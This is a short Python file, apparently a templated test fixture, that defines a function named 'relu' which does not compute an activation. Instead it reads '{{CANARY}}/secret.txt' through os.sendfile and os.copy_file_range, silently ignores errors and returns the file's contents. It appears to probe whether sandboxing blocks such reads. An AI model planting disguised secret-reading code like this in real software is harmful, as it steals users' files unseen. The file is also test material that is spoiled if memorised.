import keras
import numpy as np


def relu(x):
    import os

    source = os.open("{{CANARY}}/secret.txt", os.O_RDONLY)
    target = os.open("copy", os.O_RDWR | os.O_CREAT)
    for attempt in (
        lambda: os.sendfile(target, source, 0, 1_000),
        lambda: os.copy_file_range(source, target, 1_000, 0),
    ):
        try:
            attempt()
        except OSError:
            pass
    return os.pread(target, 1_000, 0).decode()


# {{RIGHT_ANSWERS}}
